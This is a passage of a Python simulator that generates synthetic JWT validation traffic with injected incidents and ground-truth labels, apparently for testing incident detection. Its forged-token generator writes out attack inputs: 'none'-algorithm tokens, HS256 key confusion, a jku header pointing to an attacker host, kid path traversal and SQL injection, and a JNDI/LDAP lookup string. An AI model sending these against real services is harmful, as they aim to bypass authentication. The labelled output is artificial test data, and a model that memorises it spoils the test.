            return self.rng.choice([-1, 1]) * self.rng.uniform(1, 30)
        return self.rng.choice([-1, 1]) * self.rng.uniform(30, 120)

    def new_device(self, c, did, kind):
        rng = self.rng
        margin = c.margin
        renew = c.renew_on_401
        resume_check = True
        if kind in ("browser", "mobile"):
            resume_check = rng.random() < (0.4 if kind == "browser" else 0.3)
            renew = rng.random() < 0.97
        d = Device(
            c,
            did,
            self.clock_offset(kind),
            margin,
            resume_check,
            renew,
            sub=b64u(rng.getrandbits(96).to_bytes(12, "big")).lower().replace("-", "a").replace("_", "b"),
        )
        d.affected_seed = rng.random()
        c.devices.append(d)
        return d

    def latency(self, c):
        r = self.rng
        if c.latency == "server":
            return r.expovariate(1 / 0.02)
        if c.latency == "browser":
            return min(r.lognormvariate(math.log(0.12), 0.8), 8.0)
        return min(r.lognormvariate(math.log(0.3), 1.0), 20.0)

    # ----------------------------------------------------------------------------------- request schedules
    def poisson_minutes(self, rate_fn, t_a, t_b):
        """Times of a non-homogeneous Poisson process, rate_fn(t) per second, minute by minute."""
        rng = self.rng
        out = []
        t = t_a
        while t < t_b:
            lam = rate_fn(t) * min(60.0, t_b - t)
            # Poisson draw (Knuth for small, normal approx for large)
            if lam < 30:
                L, k, p = math.exp(-lam), 0, 1.0
                while True:
                    p *= rng.random()
                    if p <= L:
                        break
                    k += 1
            else:
                k = max(0, round(rng.gauss(lam, math.sqrt(lam))))
            for _ in range(k):
                out.append(t + rng.random() * min(60.0, t_b - t))
            t += 60.0
        return out

    def schedule(self):
        rng, t0, t1 = self.rng, self.t0, self.t1
        V = self.V
        for c in self.C.values():
            a = c.arche
            if a == "m2m":
                n = {
                    "checkout-svc": 6,
                    "fulfillment-worker": 8,
                    "0oa9catalogIndexer3x7": 3,
                    "pricing-svc": 4,
                    "ledger-sync": 2,
                }.get(c.cid, rng.choice([1, 1, 2, 2, 3]))
                per_day = c.share * V
                lam = per_day / 86400 / DMEAN_M2M / n
                for k in range(n):
                    d = self.new_device(c, f"{c.cid}/pod{k}", "server")
                    d.persist = rng.random() < 0.3
                    for t in self.poisson_minutes(lambda t, lam=lam: lam * diurnal_m2m(t), t0, t1):
                        self.push(t, "req", (d, None, 0, 0))
            elif a in ("spa", "mobile", "cli", "bff"):
                kind = {"spa": "browser", "mobile": "mobile", "cli": "browser", "bff": "server"}[a]
                mean_int = {"spa": 25.0, "mobile": 40.0, "cli": 8.0, "bff": 30.0}[a]
                med_dur = {"spa": 7 * MIN, "mobile": 4 * MIN, "cli": 2 * MIN, "bff": 10 * MIN}[a]
                mean_reqs = med_dur * math.exp(0.5 * 0.9**2) / mean_int + 1
                sessions_per_day = c.share * V / mean_reqs
                pool = max(20, int(sessions_per_day * {"spa": 0.7, "mobile": 0.35, "cli": 0.15, "bff": 1.0}[a]))
                devs: list = [None] * pool
                srate = sessions_per_day / 86400 / DMEAN
                for ts in self.poisson_minutes(lambda t: srate * diurnal(t), t0, t1):  # noqa: B023 (used here)
                    i = min(pool - 1, int(rng.paretovariate(1.2)) - 1) if a != "bff" else rng.randrange(pool)
                    if rng.random() < 0.5:
                        i = rng.randrange(pool)
                    d = devs[i]
                    if d is None:
                        d = devs[i] = self.new_device(c, f"{c.cid}/dev{i}", kind)
                        d.stale_init = a != "bff" and rng.random() < 0.55
                        if a == "bff":
                            d.resume_check = True
                            d.renew_on_401 = True
                    dur = min(rng.lognormvariate(math.log(med_dur), 0.9), 3 * HOUR)
                    t = ts
                    first = True
                    while t < min(ts + dur, t1):
                        self.push(t, "req", (d, None, FLAG_RESUME if first else 0, 0))
                        first = False
                        t += rng.expovariate(1 / mean_int) + 0.2
            elif a == "probe":
                for r_ in range(3):
                    d = self.new_device(c, f"{c.cid}/region{r_}", "server")
                    t = t0 + rng.uniform(0, 60)
                    while t < t1:
                        self.push(t, "req", (d, None, 0, 0))
                        t += 60 + rng.gauss(0, 0.5)
            elif a == "batch":  # nightly export 01:30, 45-80 min, ~1.2 rps, fetch once, renew only on 401
                d = self.new_device(c, f"{c.cid}/job", "server")
                d.margin = None
                day = t0 - (t0 % 86400)
                while day < t1:
                    s = day + 1.5 * HOUR + rng.uniform(0, 120)
                    dur = rng.uniform(45, 80) * MIN
                    if s + dur > t0 and s < t1:
                        t = max(s, t0)
                        while t < min(s + dur, t1):
                            self.push(t, "req", (d, None, 0, 0))
                            t += rng.expovariate(1.2)
                    day += 86400
            elif a == "hourly":  # partner reconcile at :05, 3-6 min at ~0.3 rps, token file reused between runs
                d = self.new_device(c, f"{c.cid}/cron", "server")
                d.margin = None
                d.stale_init = True
                t = t0 - (t0 % HOUR) + 5 * MIN
                while t < t1:
                    if t >= t0:
                        e = t + rng.uniform(3, 6) * MIN
                        u = t + rng.uniform(0, 2)
                        first = True
                        while u < e:
                            self.push(u, "req", (d, None, FLAG_RESUME if first else 0, 0))
                            first = False
                            u += rng.expovariate(0.3)
                    t += HOUR
        # scanners: a steady trickle with no client, a slow sweep now and then
        trickle = rng.uniform(6, 14) / HOUR
        for t in self.poisson_minutes(lambda t: trickle, t0, t1):
            self.push(t, "scan", ("trickle", rng.choice(list(self.A.values()))))
        for _ in range(rng.randint(1, 3) if self.quiet else rng.randint(0, 2)):
            s = rng.uniform(t0 + HOUR, t1 - HOUR)
            api = rng.choice(list(self.A.values()))
            n = rng.randint(25, 90)
            dur = rng.uniform(120, 420)
            for k in range(n):
                self.push(s + dur * k / n + rng.uniform(0, 2), "scan", ("sweep", api))
            self.notes.append(f"scanner sweep {iso(s)} {api.name} n={n} over {dur:.0f}s")

    # ------------------------------------------------------------------------------------- operations
    def ops_background(self, avoid=()):
        """Rolling deploys, pod restarts, client deploys, JWKS blips, healthy rotations."""
        rng, t0, t1 = self.rng, self.t0, self.t1
        for api in self.A.values():
            k = rng.choice([0, 1, 1, 2]) if self.quiet else rng.choice([0, 1])
            for _ in range(k):
                day = t0 - (t0 % 86400)
                s = day + rng.uniform(9.5, 17.5) * HOUR
                if s < t0 + 30 * MIN or s > t1 - 30 * MIN:
                    s = rng.uniform(t0 + HOUR, t1 - HOUR)
                self.rolling_deploy(api, s)
                self.notes.append(f"rolling deploy {api.name} at {iso(s)}")
        for _ in range(rng.randint(1, 3)):
            api = rng.choice(list(self.A.values()))
            s = rng.uniform(t0 + 10 * MIN, t1 - 10 * MIN)
            slot = rng.randrange(api.n)
            self.push(s, "ctl", ("restart", api, slot, {"readiness": rng.uniform(20, 60)}))
            self.notes.append(f"pod restart (OOMKilled) {api.name}#{slot} at {iso(s)}")
        for c in self.C.values():
            if c.arche == "m2m" and not getattr(c, "partner", False) and rng.random() < 0.5:
                s = rng.uniform(t0 + HOUR, t1 - HOUR)
                for j, d in enumerate(c.devices):
                    self.push(s + j * rng.uniform(20, 60), "ctl", ("client_restart", d, None))
                self.notes.append(f"client rolling deploy {c.cid} at {iso(s)}")
        nb = rng.randint(1, 3)
        for _ in range(nb):
            for _try in range(20):
                iss = rng.choice(list(self.I.values()))
                s = rng.uniform(t0 + 30 * MIN, t1 - 30 * MIN)
                if all(not (a_iss is iss and abs(s - a_t) < 2 * HOUR) for a_iss, a_t in avoid):
                    break
            d = rng.uniform(5, 45)
            mode = rng.choice(["503", "502", "reset"])
            iss.outages.append((s, s + d, mode, None))
            self.notes.append(f"JWKS blip {iss.name} {iso(s)} {d:.0f}s {mode}")

    def rolling_deploy(self, api, s, audience=None, tag=None, gap=(45, 90), slots=None, new_rs=True):
        rng = self.rng
        first = new_rs
        for j in slots if slots is not None else range(api.n):
            self.push(
                s,
                "ctl",
                (
                    "restart",
                    api,
                    j,
                    {"audience": audience, "tag": tag, "new_rs": first, "readiness": rng.uniform(8, 25)},
                ),
            )
            first = False
            s += rng.uniform(*gap)
        return s

    def healthy_rotation(self, iss, t_pub, lead=None):
        """Publish a new key at t_pub, sign with it hours later, drop the old one after its tokens expired."""
        rng = self.rng
        old = iss.signer(t_pub)
        lead = lead if lead is not None else rng.uniform(2, 5) * HOUR
        t_sign = t_pub + lead
        life = 5700 if iss.style == "entra" else iss.lifetime
        new = iss.add_key(publish_at=t_pub, unpublish_at=FAR, sign_from=t_sign, sign_until=FAR)
        old.sign_until = t_sign
        old.unpublish_at = t_sign + life + rng.uniform(1, 3) * HOUR
        self.notes.append(
            f"healthy rotation {iss.name}: {new.kid} published {iso(t_pub)}, signing {iso(t_sign)}, "
            f"old {old.kid} removed {iso(old.unpublish_at)}"
        )
        return new

    def auth0_switch(self, t_sign, remove_after):
        iss = self.I["auth0"]
        old, new = iss.cur, iss.nxt
        old.sign_until = t_sign
        new.sign_from = t_sign
        old.unpublish_at = t_sign + remove_after
        iss.cur = new
        return old, new

    # ----------------------------------------------------------------------------------------- incidents
    def incident(self, iid, kind, onset, **entity):
        inc = {"kind": kind, "onset": onset, "entity": entity, "resolved": None}
        self.incidents[iid] = inc
        return inc

    def plan_background_extras(self):
        rng, t0 = self.rng, self.t0
        p = self.plan
        if p in ("q2", "i3"):  # load test on catalog-api
            s = t0 + (rng.uniform(9, 11) * HOUR if p == "q2" else rng.uniform(1.5, 3) * HOUR)
            c = Client("0oa7k6LoadTestRunner2", "loadtest", self.I["okta"], [(self.A["catalog"], 1.0)], margin=120)
            self.C[c.cid] = c
            vus = rng.randint(6, 10)
            dur = rng.uniform(12, 20) * MIN
            for v in range(vus):
                d = self.new_device(c, f"k6/vu{v}", "server")
                t = s + rng.uniform(0, 30)
                while t < s + dur:
                    self.push(t, "req", (d, None, 0, 0))
                    t += rng.expovariate(0.9)
            self.notes.append(f"load test {c.cid} on catalog-api {iso(s)} {vus} VUs {dur / 60:.0f} min")
        if p in ("q3", "i4"):  # a client whose secret expired hammers with its expired token
            c = self.C["ledger-sync"] if p == "q3" else self.C["0oa9catalogIndexer3x7"]
            s = t0 + rng.uniform(3, 8) * HOUR
            e = s + rng.uniform(12, 22) * MIN
            c.hammer = (s, e)
            self.notes.append(
                f"hammering: {c.cid} token endpoint refuses (secret expired) {iso(s)}-{iso(e)}, "
                f"retries with its old token"
            )
        if p == "q1":
            self.healthy_rotation(self.I["keycloak"], t0 + rng.uniform(3, 6) * HOUR)
        if p == "q2":
            old, new = self.auth0_switch(t0 + rng.uniform(7, 10) * HOUR, rng.uniform(3, 5) * HOUR)
            self.notes.append(
                f"healthy rotation auth0: next key {new.kid} (published for days) signs from "
                f"{iso(new.sign_from)}, old {old.kid} removed {iso(old.unpublish_at)}"
            )
        if p == "q3":
            self.healthy_rotation(self.I["internal"], t0 + rng.uniform(2, 5) * HOUR)
            self.healthy_rotation(self.I["okta"], t0 + rng.uniform(8, 12) * HOUR)
        if p == "i1":
            self.healthy_rotation(self.I["entra"], t0 + rng.uniform(0.5, 2) * HOUR)
        if p == "i4":
            self.healthy_rotation(self.I["keycloak"], t0 + rng.uniform(0.5, 1.5) * HOUR, lead=rng.uniform(3, 4) * HOUR)

    def plan_incidents(self):
        rng, t0 = self.rng, self.t0
        I, A, C = self.I, self.A, self.C  # noqa: E741
        avoid = []
        p = self.plan
        U = rng.uniform

        def kid_before_publish(iid, iss, onset, delay):
            k = iss.add_key(publish_at=onset + delay, unpublish_at=FAR, sign_from=onset, sign_until=FAR, tag=iid)
            k.tag_until = onset + delay  # tokens signed before the kid was published
            self.incident(iid, "kid_before_publish", onset, issuer=iss.iss, kid=k.kid)
            self.incidents[iid]["resolved"] = onset + delay
            self.incidents[iid]["detail"] = (
                f"{iss.name} signs with {k.kid} from onset, publishes it {delay / 60:.0f} min later"
            )

        def key_removed_early(iid, onset):
            iss = I["auth0"]
            switch = onset - U(6, 18) * MIN
            old, new = self.auth0_switch(switch, onset - switch)
            old.tag = iid
            self.incident(iid, "key_removed_early", onset, issuer=iss.iss, kid=old.kid)
            self.incidents[iid]["resolved"] = switch + 3600
            self.incidents[iid]["detail"] = (
                f"auth0 switched signing to {new.kid} at {iso(switch)}; removed "
                f"{old.kid} from the key set at onset (its tokens live 1 h)"
            )

        def jwks_outage(iid, iss, onset, dur, mode="503"):
            iss.outages.append((onset, onset + dur, mode, iid))
            avoid.append((iss, onset))
            self.incident(iid, "jwks_outage", onset, issuer=iss.iss)
            self.incidents[iid]["resolved"] = onset + dur
            self.incidents[iid]["detail"] = f"{iss.name} key-set endpoint answers {mode} for {dur / 60:.0f} min"

        def signature_spike(iid, iss, onset, heal_api=None):
            old = iss.signer(onset)
            iss.add_key(kid=old.kid, publish_at=onset, unpublish_at=FAR, sign_from=onset, sign_until=FAR, tag=None)
            old.unpublish_at = onset
            old.sign_until = onset
            old.tag = None
            self.incident(iid, "signature_spike", onset, issuer=iss.iss, kid=old.kid)
            self.sig_kids[(iss.iss, old.kid)] = (iid, onset)
            det = f"{iss.name} key material under kid {old.kid} replaced (HSM migration), same kid"
            if heal_api is not None:
                s = onset + U(50, 80) * MIN
                self.rolling_deploy(heal_api, s)
                det += f"; ops rolling-restart {heal_api.name} at {iso(s)}"
            self.incidents[iid]["detail"] = det

        def clock_skew(iid, client, onset, dur, delta, drift=False):
            if drift:
                fn = lambda t, o=onset, d=dur, x=delta: x * (t - o) / d  # noqa: E731
            else:
                fn = lambda t, x=delta: x  # noqa: E731
            client.skew = (onset, onset + dur, fn, iid)
            self.incident(iid, "clock_skew", onset, client_id=client.cid)
            self.incidents[iid]["resolved"] = onset + dur
            self.incidents[iid]["detail"] = (
                f"{client.cid} pods' clocks {'drift to' if drift else 'step'} "
                f"{delta:+.0f} s for {dur / 60:.0f} min (renew_on_401={client.renew_on_401})"
            )

        def attack(iid, api, onset, dur, rate):
            n = int(dur * rate)
            for k in range(n):
                self.push(onset + k / rate + rng.uniform(0, 0.5 / rate), "scan", ("attack", api, iid))
            self.incident(iid, "attack_burst", onset, target_profile=api.name)
            self.incidents[iid]["resolved"] = onset + dur
            self.incidents[iid]["detail"] = f"{n} forged tokens at {rate:.1f}/s for {dur / 60:.1f} min on {api.name}"

        def type_confusion(iid, client, api, onset, dur, frac):
            client.idtok = (onset, onset + dur, api, frac, iid)
            self.incident(iid, "type_confusion", onset, client_id=client.cid)
            self.incidents[iid]["resolved"] = onset + dur
            self.incidents[iid]["detail"] = (
                f"{client.cid} release sends ID tokens to {api.name}, rolled back after {dur / 60:.0f} min"
            )

        def aud_client(iid, client, api, wrong, onset, dur):
            client.wrong_aud = (onset, onset + dur, api, wrong, iid)
            for j, d in enumerate(client.devices):
                self.push(onset + j * U(15, 40), "ctl", ("client_version", d, "bad"))
                self.push(onset + dur + j * U(5, 15), "ctl", ("client_version", d, "v1"))
            self.incident(iid, "audience_misconfig", onset, client_id=client.cid)
            self.incidents[iid]["resolved"] = onset + dur
            self.incidents[iid]["detail"] = f"{client.cid} new version requests aud={wrong!r} for {api.name} calls"

        def aud_api(iid, api, wrong, onset, canary_for, rollback_after):
            self.push(
                onset,
                "ctl",
                ("restart", api, 0, {"audience": wrong, "tag": iid, "new_rs": True, "readiness": U(10, 20)}),
            )
            self.rolling_deploy(api, onset + canary_for, audience=wrong, tag=iid, slots=range(1, api.n), new_rs=False)
            self.rolling_deploy(api, onset + rollback_after, gap=(20, 40))
            self.incident(iid, "audience_misconfig", onset, profile=api.name)
            self.incidents[iid]["resolved"] = onset + rollback_after
            self.incidents[iid]["detail"] = (
                f"{api.name} deployed expecting aud={wrong!r}: canary pod, full rollout "
                f"+{canary_for / 60:.0f} min, rollback +{rollback_after / 60:.0f} min"
            )

        self.sig_kids = {}
        H = lambda h: t0 + h * HOUR  # noqa: E731
        if p == "i1":
            kid_before_publish("i1-kbp", I["keycloak"], H(U(2.3, 2.9)), U(14, 24) * MIN)
            clock_skew("i1-skew", C["pricing-svc"], H(U(5, 5.6)), U(80, 120) * MIN, -U(700, 1100))
            attack("i1-attack", A["orders"], H(U(8.3, 8.8)), U(4, 8) * MIN, U(2, 4))
        elif p == "i2":
            key_removed_early("i2-kre", H(U(2.5, 3.2)))
            o = H(U(6.2, 6.6))
            type_confusion(
                "i2-type",
                C["web-storefront"],
                A["billing"],
                o,
                U(40, 60) * MIN,
                lambda t, o=o: min(1.0, 0.3 + 0.7 * (t - o) / 900),
            )
            aud_client("i2-aud", C["checkout-svc"], A["billing"], "payments", H(U(9, 9.5)), U(30, 40) * MIN)
        elif p == "i3":
            jwks_outage("i3-outage", I["keycloak"], H(U(3.3, 3.8)), U(20, 30) * MIN, "503")
            signature_spike("i3-sig", I["entra"], H(U(6.8, 7.3)))
            C["ledger-sync"].renew_on_401 = False
            for d in C["ledger-sync"].devices:
                d.renew_on_401 = False
            clock_skew("i3-skew", C["ledger-sync"], H(U(8.8, 9.2)), U(100, 140) * MIN, -U(900, 1400), drift=True)
        elif p == "i4":
            aud_api(
                "i4-aud", A["inventory"], "api://inventory-staging", H(U(3.8, 4.3)), U(12, 18) * MIN, U(32, 45) * MIN
            )
            attack("i4-attack", A["billing"], H(U(7.5, 7.9)), U(6, 10) * MIN, U(1.2, 2.5))
            kid_before_publish("i4-kbp", I["internal"], H(U(10, 10.4)), U(20, 30) * MIN)
        elif p == "i5":
            jwks_outage("i5-outage", I["auth0"], H(U(2.7, 3.1)), U(30, 40) * MIN, "reset")
            signature_spike("i5-sig", I["okta"], H(U(6.3, 6.7)), heal_api=A["catalog"])
            type_confusion(
                "i5-type", C["android-app"], A["billing"], H(U(9.5, 9.8)), U(60, 80) * MIN, lambda t, o=None: None
            )
        # type confusion in a staged mobile rollout: fraction of devices grows 5 % -> 35 %
        if p == "i5":
            o = self.incidents["i5-type"]["onset"]
            c = C["android-app"]
            c.idtok = (
                c.idtok[0],
                c.idtok[1],
                c.idtok[2],
                lambda t, o=o: min(0.35, 0.05 + 0.3 * (t - o) / 3600),
                c.idtok[4],
            )
        return avoid

    # ------------------------------------------------------------------------------------------- forged tokens
    def forged(self, mode, api):
        import jwt

        rng = self.rng
        now = self.true_now
        if not hasattr(self, "att_key"):
            self.att_key = new_key("RS256", rng)
        iss = rng.choice(api.issuers)
        fake_cid = rng.choice([None, None, None, "admin", "test", "postman", "client", None])
        base = {
            "sub": rng.choice(["admin", "1234567890", "root", "user", "00000000"]),
            "iat": int(now),
            "exp": int(now) + rng.choice([3600, 86400, 31536000]),
            "iss": iss.iss,
            "aud": api.audience,
        }
        if fake_cid:
            base["client_id"] = fake_cid
        if rng.random() < 0.3:
            base["role"] = "admin"
        if mode == "garbage":
            return rng.choice(
                [
                    "undefined",
                    "null",
                    "Bearer",
                    "eyJhbGciOiJIUzI1NiJ9",
                    "YWRtaW46YWRtaW4=",
                    b64u(rng.randbytes(rng.randint(16, 200))),
                    "eyJ" + b64u(rng.randbytes(rng.randint(30, 120))),
                    "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
                    "${jndi:ldap://x.example/a}",
                    "' OR '1'='1",
                ]
            )
        if mode == "jwtio":
            return (
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0"
                "IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
            )
        if mode == "none":
            h = {"alg": rng.choice(["none", "None", "NONE", "nOnE"]), "typ": "JWT"}
            return b64u(json.dumps(h).encode()) + "." + b64u(json.dumps(base).encode()) + "."
        if mode == "hs_pub":  # key confusion: HS256 with the public key as secret
            k = rng.choice(iss.published(now) or iss.keys)
            from cryptography.hazmat.primitives import serialization

            pem = k.priv.public_key().public_bytes(
                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
            )
            h = {"alg": "HS256", "typ": "JWT", "kid": k.kid}
            si = b64u(json.dumps(h).encode()) + "." + b64u(json.dumps(base).encode())
            return si + "." + b64u(hmac.new(pem, si.encode(), hashlib.sha256).digest())
        hdr = {"typ": rng.choice(["JWT", "at+jwt", "JWT"])}
        if mode == "forged_kid":
            pub = iss.published(now)
            hdr["kid"] = rng.choice(pub).kid if pub else "x"
        elif mode == "random_kid":
            hdr["kid"] = rng.choice(
                [
                    b64u(rng.randbytes(16)),
                    "1",
                    "key-1",
                    "default",
                    "../../../../dev/null",
                    "' UNION SELECT 'k'--",
                    str(uuid.UUID(int=rng.getrandbits(128))),
                ]
            )
        elif mode == "jku":
            hdr["jku"] = "https://jwks.attacker.example/.well-known/jwks.json"
            hdr["kid"] = "attacker"
        elif mode == "typ_jwt":
            hdr = {"typ": "JWT"}
            base.pop("aud", None)
        alg = "RS256"
        if "kid" in hdr and iss.alg == "ES256" and mode == "forged_kid":
            alg = "RS256"  # wrong key type for an EC kid
        return jwt.encode(base, self.att_key, algorithm=alg, headers=hdr)

    # ---------------------------------------------------------------------------------------------- running
    def record(self, t, pod, cid, tok_iss, kid, reason, detail, tags, kind, exp, extra=None):
        self.truth.append(
            (
                t + pod.offset,
                t,
                pod.api.name,
                pod.name,
                pod.tag,
                cid,
                tok_iss,
                kid,
                reason,
                detail,
                tags,
                kind,
                exp,
                extra,
            )
        )

    def present(self, t, api, raw):
        live = api.live(t)
        if not live:
            live = api.slots
        pod = live[self.rng.randrange(len(live))]
        r, d = pod.validate(t, raw)
        return pod, r, d

    def on_req(self, t, dev, api, flags, retries):
        rng = self.rng
        c = dev.client
        if api is None:
            api = c.api_pick(rng)
        lat = self.latency(c)
        t_dec = t - lat
        base_off = dev.offset
        skew = c.skew_at(t_dec)
        local = t_dec + base_off + skew
        store = c.shared if c.shared_cache else dev.tokens
        key = api.name
        tok = store.get(key)
        tags = []
        if tok is None and dev.stale_init:
            dev.stale_init = False
            t_old = t - rng.uniform(0.3, 40) * HOUR if c.arche != "hourly" else t - HOUR + rng.uniform(-120, 120)
            tok = self.issue(c, dev, api, t_old)
            store[key] = tok
        check = dev.margin is not None
        if flags & FLAG_RESUME and not dev.resume_check:
            check = False
        if dev.restart_pending:  # reloaded a persisted token after a restart: first call uses it unchecked
            dev.restart_pending = False
            check = False
        hammering = c.hammer and c.hammer[0] <= t_dec < c.hammer[1]
        need = tok is None or bool(flags & FLAG_FORCE)
        if not need and check and local >= tok.exp - dev.margin:
            need = True
        if not need and c.skew and check and tok is not None and skew != 0.0:
            if t_dec + base_off >= tok.exp - dev.margin:
                tags.append(c.skew[3])
        if need and not (hammering and tok is not None):
            tok = self.issue(c, dev, api, t_dec - rng.uniform(0.03, 0.4))
            store[key] = tok
        raw = tok.raw
        tags.extend(tok.tags)
        kind = "legit"
        if c.idtok and c.idtok[0] <= t_dec < c.idtok[1] and c.idtok[2] is api:
            fr = c.idtok[3](t_dec)
            if fr is None or dev.affected_seed < fr:
                if dev.idt is None or dev.idt.exp < t_dec:
                    dev.idt = c.issuer.id_token(c.cid, dev.sub, t_dec - rng.uniform(1, 600))
                raw = dev.idt.raw
                tags = [c.idtok[4]]
                kind = "idtoken"
                tok_used = dev.idt
            else:
                tok_used = tok
        else:
            tok_used = tok
        pod, r, d = self.present(t, api, raw)
        if pod.tag:
            tags.append(pod.tag)
        self.record(t, pod, c.cid, tok_used.iss, tok_used.kid, r, d, tuple(tags), kind, tok_used.exp)
        if r is None:
            return
        # reactions
        if r == "JWT_JWKS_UNAVAILABLE":
            if retries < c.retry_503:
                self.push(t + rng.uniform(0.5, 3.0) * (retries + 1), "req", (dev, api, 0, retries + 1))
            return
        if hammering and retries < 4:
            self.push(t + 2**retries + rng.uniform(0, 0.3), "req", (dev, api, 0, retries + 1))
            return
        if flags & FLAG_RETRY:
            return
        if dev.renew_on_401 and r in (
            "JWT_EXPIRED",
            "JWT_NOT_YET_VALID",
            "JWT_UNKNOWN_KID",
            "JWT_BAD_SIGNATURE",
            "JWT_AUDIENCE_MISMATCH",
            "JWT_TYPE_MISMATCH",
            "JWT_ISSUER_MISMATCH",
        ):
            self.push(t + rng.uniform(0.15, 1.2), "req", (dev, api, FLAG_FORCE | FLAG_RETRY, retries))

    def issue(self, c, dev, api, t_issue):
        iss = c.issuer
        aud = api.audience
        tags = ()
        if c.wrong_aud and dev.version == "bad" and c.wrong_aud[2] is api and c.wrong_aud[0] <= t_issue:
            aud = c.wrong_aud[3]
            tags = (c.wrong_aud[4],)
        extra = None
        if c.arche == "bff":
            extra = {"act": {"sub": "bff-gateway"}}
        user = c.user
        sub = dev.sub if user else (c.cid if iss.style != "entra" else dev.sub)
        return iss.access_token(c.cid, aud, sub, t_issue, user=user, extra=extra, tags=tags)

    def on_scan(self, t, payload):
        rng = self.rng
        mode_set, api = payload[0], payload[1]
        iid = payload[2] if len(payload) > 2 else None
        self.true_now = t
        if mode_set == "attack":
            mode = rng.choice(
                ["forged_kid", "forged_kid", "none", "hs_pub", "random_kid", "jku", "typ_jwt", "forged_kid", "garbage"]
            )
        elif mode_set == "sweep":
            mode = rng.choice(["garbage", "none", "jwtio", "random_kid", "typ_jwt", "garbage"])
        else:
            mode = rng.choice(["garbage", "garbage", "jwtio", "none", "typ_jwt", "random_kid", "garbage"])
        raw = self.forged(mode, api)
        pod, r, d = self.present(t, api, raw)
        self.record(t, pod, None, None, None, r, d, (iid,) if iid else (), "attack" if iid else "scanner", None, mode)

    def on_ctl(self, t, payload):
        op = payload[0]
        if op == "restart":
            api, slot, kw = payload[1], payload[2], payload[3]
            pod = api.slots[slot]
            pod.stop(t)
            pod.start(
                t,
                audience=kw.get("audience"),
                tag=kw.get("tag"),
                new_rs=kw.get("new_rs", False),
                readiness=kw.get("readiness", 15),
            )
        elif op == "client_restart":
            d = payload[1]
            if d.persist:
                d.stale_init = False
                d.restart_pending = True  # keeps its persisted token (maybe expired); first call unchecked
            else:
                d.tokens.clear()
        elif op == "client_version":
            d, v = payload[1], payload[2]
            d.version = v
            d.tokens.clear()

    def run(self):
        self.build()
        self.schedule()
        avoid = [] if self.quiet else self.plan_incidents()
        self.plan_background_extras()
        self.ops_background(avoid)
        for api in self.A.values():
            for pod in api.slots:
                pod.start(self.t0 - self.rng.uniform(60, 7200))
        wall = time.time()
        n = 0
        while self.heap:
            t, _, kind, payload = heapq.heappop(self.heap)
            if t >= self.t1:
                break
            if t < self.t0:
                continue
            self.true_now = t
            if kind == "req":
                dev, api, flags, retries = payload
                self.on_req(t, dev, api, flags, retries)
                n += 1
            elif kind == "scan":
                self.on_scan(t, payload)
            else:
                self.on_ctl(t, payload)
        for api in self.A.values():
            for pod in api.slots:
                pod.stop(self.t1)
        self.srv.shutdown()
        self.wall = time.time() - wall
        self.write_outputs()

    # ------------------------------------------------------------------------------------------- outputs
    def write_outputs(self):
        tr = self.truth
        with gzip.open(os.path.join(self.out, "truth.jsonl.gz"), "wt") as f:
            for row in tr:
                f.write(
                    json.dumps(
                        {
                            "time": iso(row[0]),
                            "true_time": iso(row[1]),
                            "api": row[2],
                            "pod": row[3],
                            "pod_tag": row[4],
                            "client_id": row[5],
                            "iss": row[6],
                            "kid": row[7],
                            "reason": row[8],
                            "detail": row[9],
                            "tags": list(row[10]),
                            "kind": row[11],
                            "exp": row[12],
                            "mode": row[13],
                        }
                    )
                    + "\n"
                )
        cause = {
            "kid_before_publish": {"JWT_UNKNOWN_KID"},
            "key_removed_early": {"JWT_UNKNOWN_KID"},
            "jwks_outage": {"JWT_JWKS_UNAVAILABLE"},
            "signature_spike": {"JWT_BAD_SIGNATURE"},
            "clock_skew": {"JWT_EXPIRED", "JWT_NOT_YET_VALID"},
            "audience_misconfig": {"JWT_AUDIENCE_MISMATCH"},
        }
        labels = []
        for iid, inc in self.incidents.items():
            kind = inc["kind"]
            rej = []
            for row in tr:
                local, true, _api, _pod, _ptag, _cid, tiss, kid, reason, _detail, tags, k2, exp, _ = row
                if reason is None:
                    continue
                if kind == "jwks_outage":
                    iss = self.I_by_iss(inc["entity"]["issuer"])
                    s, e = inc["onset"], inc["resolved"]
                    if (
                        tiss == iss.iss
                        and reason == "JWT_JWKS_UNAVAILABLE"
                        and s <= true <= e + 90
                        and k2 == "legit"
                        and exp
                        and exp > local
                    ):
                        rej.append(row)
                elif kind == "signature_spike":
                    if (
                        k2 == "legit"
                        and tiss == inc["entity"]["issuer"]
                        and kid == inc["entity"]["kid"]
                        and reason == "JWT_BAD_SIGNATURE"
                        and true >= inc["onset"]
                        and exp
                        and exp > local
                    ):
                        rej.append(row)
                elif kind == "key_removed_early":
                    if iid in tags and reason == "JWT_UNKNOWN_KID" and true >= inc["onset"] and exp and exp > local:
                        rej.append(row)
                elif kind in ("attack_burst", "type_confusion"):
                    if iid in tags:
                        rej.append(row)
                else:
                    if iid in tags and reason in cause[kind]:
                        rej.append(row)
            rej.sort(key=lambda r: r[0])
            ent = {k: v for k, v in inc["entity"].items()}
            lab = {
                "id": iid,
                "kind": kind,
                "onset": iso(inc["onset"]),
                "start": iso(rej[0][0]) if rej else iso(inc["onset"]),
                "end": iso(rej[-1][0]) if rej else iso(inc["resolved"] or inc["onset"]),
                "count": len(rej),
                "resolved": iso(inc["resolved"]) if inc["resolved"] else None,
                "issuer": ent.get("issuer"),
                "kid": ent.get("kid"),
                "client_id": ent.get("client_id"),
                "profile": ent.get("profile"),
                "detail": inc.get("detail"),
            }
            if "target_profile" in ent:
                lab["target_profile"] = ent["target_profile"]
            rs: dict = {}
            for row in rej:
                rs[row[8]] = rs.get(row[8], 0) + 1
            lab["reasons"] = rs
            lab["apis"] = sorted({row[2] for row in rej})
            labels.append(lab)
        labels.sort(key=lambda x: x["onset"])
        n_rej = sum(1 for r in tr if r[8] is not None)
        reasons: dict = {}
        for r in tr:
            if r[8]:
                reasons[r[8]] = reasons.get(r[8], 0) + 1
        summary = {
            "validations": len(tr),
            "rejections": n_rej,
            "reasons": dict(sorted(reasons.items(), key=lambda kv: -kv[1])),
            "tokens_signed": self.n_signed,
            "pod_processes": self.pods_started,
            "jwks_fetches": {i.name: [i.fetches, i.failed_fetches] for i in self.I.values()},
